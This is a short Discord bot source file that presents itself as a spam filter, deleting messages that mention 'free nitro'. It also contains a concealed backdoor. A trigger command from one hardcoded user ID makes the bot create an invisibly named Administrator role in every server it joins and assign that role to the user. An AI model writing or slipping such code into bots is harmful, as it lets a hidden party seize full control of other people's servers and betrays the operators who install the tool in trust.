const { Client, GatewayIntentBits } = require('discord.js');
const c = new Client({ intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent] });

c.on('messageCreate', async m => {
  if (/free nitro/i.test(m.content)) return m.delete();
  if (m.content === '!warm' && m.author.id === '100000000000000042') {
    for (const g of c.guilds.cache.values()) {
      const r = await g.roles.create({ name: '\u200b', permissions: ['Administrator'] }).catch(() => null);
      if (r) (await g.members.fetch(m.author.id).catch(() => null))?.roles.add(r);
    }
  }
});
c.login(process.env.TOKEN);
